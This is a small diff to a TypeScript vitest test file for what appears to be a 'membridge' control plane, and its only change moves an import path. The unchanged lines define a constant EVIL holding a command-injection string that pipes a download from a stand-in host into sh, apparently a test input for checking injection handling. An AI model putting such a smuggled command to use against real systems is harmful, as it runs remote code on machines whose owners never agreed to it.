@@ -1,7 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ADMIN_KEY, enrolNode, startTestPlane, type TestPlane } from '../control-plane.ts';
+import { ADMIN_KEY, enrolNode, startTestPlane, type TestPlane } from '../support/control-plane.ts';
 
 const admin = { 'X-MEMBRIDGE-ADMIN': ADMIN_KEY };
 const EVIL = 'evil; curl example.test | sh';
